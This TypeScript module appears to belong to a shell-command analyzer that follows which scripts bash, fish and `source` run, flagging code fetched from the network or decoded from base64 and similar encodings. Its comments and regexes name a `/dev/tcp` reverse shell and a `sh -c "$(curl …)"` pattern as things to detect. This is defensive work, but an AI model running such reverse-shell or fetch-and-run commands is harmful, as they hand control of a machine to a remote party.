import { SHELLS } from '../../model/programs.ts';
import { UNKNOWN, type Word } from '../analysis.ts';
import { type Call, literal } from '../call.ts';
import { fetchedFrom } from '../fetched.ts';
import { isListed, mayBeNew } from '../listed.ts';
import { hasUnknown, isUnknown, unknownOf, withoutUnknown } from '../marks.ts';
import type { Entry } from '../reentry.ts';
import type { Tool, ToolTable } from '../tool.ts';

/** Code that an interpreter reads from its input or from a file: followed where the text is known. */
interface CodeSource {
  readonly template: string;
  readonly sources: readonly number[];
  readonly path: string | null;
  /** A file with a name of its own, though its folder is not known. */
  readonly named?: boolean;
  /** The session has written it, and it is too long to be read. */
  readonly unread?: boolean;
}

/** What a script argument holds, when an earlier command of the session wrote it, or one of the line prints it. */
export function scriptFile(call: Call, word: Word): CodeSource {
  if (word.output) return { template: word.output.template, sources: word.output.sources, path: null };
  if (word.text === null) {
    const named = (call.path(word).ending !== null && !mayBeNew(call)) || isListed(call, word);
    return { template: unknownOf(word.template), sources: [], path: null, named };
  }
  if (/^\/dev\/(?:stdin|fd\/0)$/.test(word.text) || word.text === '-') return scriptInput(call);
  const { path } = call.path(word);
  if (/^\/(?:dev|proc\/self)\/fd\/\d+$/.test(path ?? ''))
    return { template: UNKNOWN, sources: [], path: null, unread: true };
  if (word.glob && path !== null && call.walk.store.hasScriptLike(path))
    return { template: UNKNOWN, sources: [], path: null, unread: true };
  const file = path === null ? undefined : call.walk.store.script(path);
  return {
    template: file?.template ?? UNKNOWN,
    sources: file?.sources ?? [],
    path,
    unread: file?.unread ?? false,
  };
}

/** What it reads as its script; `sh < file` is `sh file`, as long as nothing else has gone into the file. */
export function scriptInput(call: Call): CodeSource {
  const { template, sources } = call.command.stdin;
  const path = inputFile(call);
  const file = path === null ? undefined : call.walk.store.script(path);
  return { template: file?.template ?? template, sources: file?.sources ?? sources, path };
}

function inputFile({ command: { stdin }, walk }: Call): string | null {
  if (stdin.from !== 'file' || stdin.sources.length > 0 || !isUnknown(stdin.template)) return null;
  const [origin, ...others] = walk.originsOf(stdin.template);
  if (origin?.kind !== 'file' || origin.ref.glob || others.length > 0) return null;
  return DEVICES.test(origin.ref.path ?? '') ? null : origin.ref.path;
}

/** What is read there is something else each time. */
const DEVICES = /^\/(?:dev|proc)\//;

/** Nothing of a script is known but the spaces in it. */
function saysNothing(template: string): boolean {
  return hasUnknown(template) && withoutUnknown(template).trim() === '';
}

/** Says where the code comes from, and whether it can be followed. */
export function announce(call: Call, source: CodeSource): boolean {
  const host = fetchedFrom(call, source.sources, source.template);
  if (host !== undefined) {
    call.execute('network', source.path, host);
    call.walk.lost(`${call.command.name} runs code from the network`);
    return false;
  }
  if (!saysNothing(source.template)) {
    if (isDecoded(call, source.sources)) call.execute('decoded');
    else if (source.path !== null) call.execute('file', source.path);
    return true;
  }
  const decoded = isDecoded(call, source.sources);
  if (!source.unread && !decoded && (source.path !== null || source.named)) call.execute('file', source.path);
  else {
    call.execute(decoded ? 'decoded' : 'unknown', source.path);
    call.walk.lost(`${call.command.name} runs code that is not known`);
  }
  return false;
}

const DECODERS: ReadonlySet<string> = new Set([
  'base64',
  'base32',
  'xxd',
  'openssl',
  'rev',
  'tr',
  'gunzip',
  'zcat',
  'uudecode',
  'certutil',
]);

/** Whether text went through a program that is there to make it readable again. */
export function isDecoded({ walk }: Call, sources: readonly number[]): boolean {
  return sources.some((index) => DECODERS.has(walk.commands[index]?.tool ?? ''));
}

/** False when the text itself came over the network: `sh -c "$(curl …)"`. */
export function ownText(call: Call, word: Word): boolean {
  const host = fetchedFrom(call, word.sources ?? [], word.template);
  if (host === undefined) return true;
  call.execute('network', null, host);
  call.walk.lost(`${call.command.name} runs code from the network`);
  return false;
}

/** `bash -i >& /dev/tcp/host/port`: whoever is at the other end types the commands. */
function connected(call: Call): void {
  for (const { target } of call.command.redirects) {
    const host = /^\/dev\/(?:tcp|udp)\/([^/]*)/.exec(target.template)?.[1];
    if (host === undefined) continue;
    call.execute('network', null, hasUnknown(host) ? null : host);
    call.walk.lost(`${call.command.name} runs code from the network`);
  }
}

function shell(call: Call): string {
  const { operands } = call;
  for (const file of call.values('--rcfile', '--init-file')) {
    const start = scriptFile(call, file);
    if (announce(call, start)) call.runText(start.template, childEntry(call, []));
  }
  if (call.command.redirects.length > 0) connected(call);
  const plus = operands[0]?.template ?? '';
  if (/^\+[A-Za-z]/.test(plus)) return call.runArgv(withoutPlus(call.command.argv));
  const glued = call.command.argv.find(isGlued);
  if (glued) return call.runText(glued.template.replace(/^-[a-z]*?c/, ''), {});
  if (call.has('-c', '--command')) {
    const script = call.value('--command') ?? operands[0];
    const rest = operands.slice(script === operands[0] ? 1 : 0);
    if (script === undefined) {
      if (call.walk.frame.via.includes('xargs')) call.walk.lost('xargs gives the shell its script');
      return UNKNOWN;
    }
    if (!ownText(call, script)) return UNKNOWN;
    if (saysNothing(script.template))
      call.execute(isDecoded(call, script.sources ?? []) ? 'decoded' : 'unknown');
    const [name, ...words] = rest;
    const entry = childEntry(call, words);
    return call.runText(script.template, name ? { ...entry, script: name.template } : entry);
  }
  const [file, ...rest] = operands;
  const fromInput = file === undefined || call.has('-s');
  if (fromInput && call.command.stdin.from === 'terminal') return UNKNOWN;
  if (call.has('-n', '--version', '--help')) return UNKNOWN;
  const source = fromInput ? scriptInput(call) : scriptFile(call, file);
  if (file && !fromInput && !file.output) call.read(file);
  if (!announce(call, source)) return UNKNOWN;
  return call.runText(source.template, childEntry(call, fromInput ? operands : rest));
}

/** `-c'line'`: the option and what it runs are one word. */
function isGlued({ template }: Word): boolean {
  const letters = /^-[a-z]*/.exec(template)?.[0] ?? '';
  return letters.includes('c') && /\s/.test(template);
}

/** `bash +x -c 'line'`: what is switched off looks like an operand, and options may follow it. */
function withoutPlus(argv: readonly Word[]): Word[] {
  return argv.filter(({ template }, at) => {
    const before = argv[at - 1]?.template ?? '';
    return at === 0 || !(/^\+[A-Za-z]/.test(template) || /^\+[A-Za-z]*[oO]$/.test(before));
  });
}

function childEntry(call: Call, words: readonly Word[]): Entry {
  const { assignments } = call.command;
  return words.length === 0
    ? { assignments }
    : { assignments, positional: words.map((word) => word.template) };
}

function source(call: Call): string {
  const [file, ...rest] = call.operands;
  if (file === undefined) return UNKNOWN;
  if (/\.ps1$/i.test(file.template)) return call.runArgv([literal('pwsh'), file]);
  if (!file.output) call.read(file);
  const code = scriptFile(call, file);
  if (!announce(call, code)) return UNKNOWN;
  const entry: Entry = { sameShell: true, functions: true };
  return call.runText(
    code.template,
    rest.length === 0 ? entry : { ...entry, positional: rest.map((word) => word.template) },
  );
}

const SHELL: Tool = {
  options:
    'c l i s e u x v n a f h k m p r t B C E H P T b o= O= ' +
    'login norc noprofile posix restricted verbose version help rcfile= init-file= init-command= command= emulate=',
  stop: true,
  run: shell,
};

/** Programs that read a command line themselves. */
export const SHELL_TOOLS: ToolTable = {
  ...Object.fromEntries(SHELLS.map((name) => [name, SHELL])),
  // Half of its language is Python: it is read as a shell, and nowhere counted on to be one.
  xonsh: SHELL,
  fish: {
    options: 'c,command= C,init-command= l,login i,interactive n,no-execute N,no-config',
    stop: true,
    run: shell,
  },
  source: { stop: true, run: source },
  '.': { stop: true, run: source },
};
